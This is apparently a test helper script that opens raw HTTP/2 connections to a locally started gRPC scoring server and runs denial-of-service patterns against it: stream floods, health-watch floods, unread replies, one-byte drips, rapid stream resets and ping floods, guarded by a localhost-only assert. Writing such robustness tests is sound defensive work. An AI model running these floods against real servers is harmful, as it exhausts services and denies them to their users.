"""Callers without credentials that waste a server's resources: python attackers.py HOST:PORT ATTACK SECONDS

Opens sixteen raw connections, which do not behave like a client library. Use it only for a server that a test has
started on this machine.
"""

from __future__ import annotations

import contextlib
import socket
import struct
import sys
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path

CONNECTIONS, STREAMS = 16, 100
AT_ONCE = 10
"""Streams that a connection starts at once, ten times a second."""

UNREAD_STREAMS = 8
DATA, HEADERS, RESET, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0, 1, 3, 4, 6, 7, 8
END_STREAM, END_HEADERS, ACK = 1, 4, 1
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SCORE_UNIT, RANK_PROVINCE = "/egov.scorer.v1.ScorerService/ScoreUnit", "/egov.scorer.v1.ScorerService/RankProvince"
CHECK, WATCH = "/grpc.health.v1.Health/Check", "/grpc.health.v1.Health/Watch"
EMPTY = struct.pack(">BI", 0, 0)
"""An empty gRPC message."""


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def header_block(path: str) -> bytes:
    """Headers as literals without indexing, so that they are equal in every stream."""
    headers = {
        ":method": "POST", ":scheme": "http", ":path": path, ":authority": "x", "te": "trailers",
        "content-type": "application/grpc",
    }  # fmt: skip
    texts = [text.encode() for pair in headers.items() for text in pair]
    assert all(len(text) < 127 for text in texts)
    return b"".join(
        b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value
        for name, value in zip(texts[::2], texts[1::2], strict=True)
    )


class Connection:
    """A connection that answers settings and pings, and can otherwise violate HTTP/2."""

    def __init__(self, address: str, settings: bytes = b"") -> None:
        host, _, port = address.rpartition(":")
        assert host == "127.0.0.1", "only servers of tests are attacked"
        self._socket = socket.create_connection((host, int(port)), timeout=10)
        self._socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self._next = 1
        self._received = bytearray()
        self.open: set[int] = set()
        """Streams that the server has not ended."""
        self._sending = threading.Lock()
        self.send(PREFACE + frame(SETTINGS, 0, 0, settings))

    def send(self, data: bytes) -> None:
        with self._sending:
            self._socket.sendall(data)

    def begin(self, block: bytes, body: bytes | None = None) -> int:
        """A stream with headers, and the body of a whole request if there is one."""
        stream, self._next = self._next, self._next + 2
        self.open.add(stream)
        data = frame(HEADERS, END_HEADERS, stream, block)
        if body is not None:
            chunks = [body[at : at + 16_384] for at in range(0, len(body), 16_384)]
            data += b"".join(frame(DATA, 0, stream, chunk) for chunk in chunks[:-1])
            data += frame(DATA, END_STREAM, stream, chunks[-1])
        self.send(data)
        return stream

    def receive(self, seconds: float) -> None:
        """Reads what comes for so long.

        Raises:
            OSError: the connection has ended.
        """
        ends = time.monotonic() + seconds
        while (left := ends - time.monotonic()) > 0:
            self._socket.settimeout(left)
            try:
                data = self._socket.recv(2**16)
            except TimeoutError:
                break
            if not data:
                raise ConnectionError
            self._received += data
            for kind, flags, stream, payload in self._frames():
                if kind == SETTINGS and not flags & ACK:
                    self.send(frame(SETTINGS, ACK, 0))
                elif kind == PING and not flags & ACK:
                    self.send(frame(PING, ACK, 0, payload))
                elif kind == GOAWAY:
                    raise ConnectionError
                elif kind == RESET or (kind in (DATA, HEADERS) and flags & END_STREAM):
                    self.open.discard(stream)
        self._socket.settimeout(10)

    def _frames(self) -> Iterator[tuple[int, int, int, bytes]]:
        while len(self._received) >= 9 and len(self._received) >= 9 + (
            length := int.from_bytes(self._received[:3], "big")
        ):
            kind, flags, stream = struct.unpack(">BBI", self._received[3:9])
            payload = bytes(self._received[9 : 9 + length])
            del self._received[: 9 + length]
            yield kind, flags, stream, payload

    def close(self) -> None:
        self._socket.close()


Attack = Callable[[Connection, Callable[[], bool]], None]


def without_body(connection: Connection, goes_on: Callable[[], bool]) -> None:
    """Starts a hundred streams, half of them of health, and starts refused ones again."""
    blocks = [header_block(path) for path in (CHECK, SCORE_UNIT)]
    while goes_on():
        for n in range(min(STREAMS - len(connection.open), AT_ONCE)):
            connection.begin(blocks[n % 2])
        connection.receive(0.1)


def watch(connection: Connection, goes_on: Callable[[], bool]) -> None:
    """Starts a hundred watchers of health."""
    block = header_block(WATCH)
    while goes_on():
        for _ in range(min(STREAMS - len(connection.open), AT_ONCE)):
            connection.begin(block, EMPTY)
        connection.receive(0.1)


def unread(connection: Connection, goes_on: Callable[[], bool]) -> None:
    """Rankings whose replies are never read: only the first 64 KiB of a connection ever leave the server."""
    block, request = header_block(RANK_PROVINCE), Path(sys.argv[4]).read_bytes()
    body = struct.pack(">BI", 0, len(request)) + request
    while goes_on():
        for _ in range(UNREAD_STREAMS - len(connection.open)):
            connection.begin(block, body)
            connection.receive(0.2)  # credit for what was sent is not waited for: requests are small
        connection.receive(1)


def drip(connection: Connection, goes_on: Callable[[], bool]) -> None:
    """Starts a hundred streams that send one byte per second."""
    block, byte = header_block(SCORE_UNIT), b"\0"
    while goes_on():
        for _ in range(10):
            for _ in range(min(STREAMS - len(connection.open), AT_ONCE)):
                connection.begin(block)
            connection.receive(0.1)
        connection.send(b"".join(frame(DATA, 0, stream, byte) for stream in connection.open))


def resets(connection: Connection, goes_on: Callable[[], bool]) -> None:
    """Streams that are begun and reset at once, as many as the connection takes."""
    block, stream, cancel = header_block(SCORE_UNIT), 1, (8).to_bytes(4, "big")
    while goes_on() and stream < 2**30:
        burst = bytearray()
        for _ in range(STREAMS):
            burst += frame(HEADERS, END_HEADERS, stream, block) + frame(RESET, 0, stream, cancel)
            stream += 2
        connection.send(bytes(burst))
        connection.receive(0.001)


def pings(connection: Connection, goes_on: Callable[[], bool]) -> None:
    """Pings, as many as the connection takes."""
    burst = frame(PING, 0, 0, b"12345678") * STREAMS
    while goes_on():
        connection.send(burst)
        connection.receive(0.001)


ATTACKS: dict[str, tuple[Attack, bytes]] = {
    "without_body": (without_body, b""),
    "watch": (watch, b""),
    "unread": (unread, b""),
    "drip": (drip, b""),
    "resets": (resets, b""),
    "pings": (pings, b""),
}


def attack(address: str, name: str, seconds: float) -> None:
    ends = time.monotonic() + seconds
    work, settings = ATTACKS[name]

    def goes_on() -> bool:
        return time.monotonic() < ends

    def check_cancelled() -> None:
        while goes_on():  # whoever is hung up on comes again
            with contextlib.suppress(OSError), contextlib.closing(Connection(address, settings)) as connection:
                work(connection, goes_on)
            time.sleep(0.05)

    threads = [threading.Thread(target=check_cancelled) for _ in range(CONNECTIONS)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


if __name__ == "__main__":
    attack(sys.argv[1], sys.argv[2], float(sys.argv[3]))
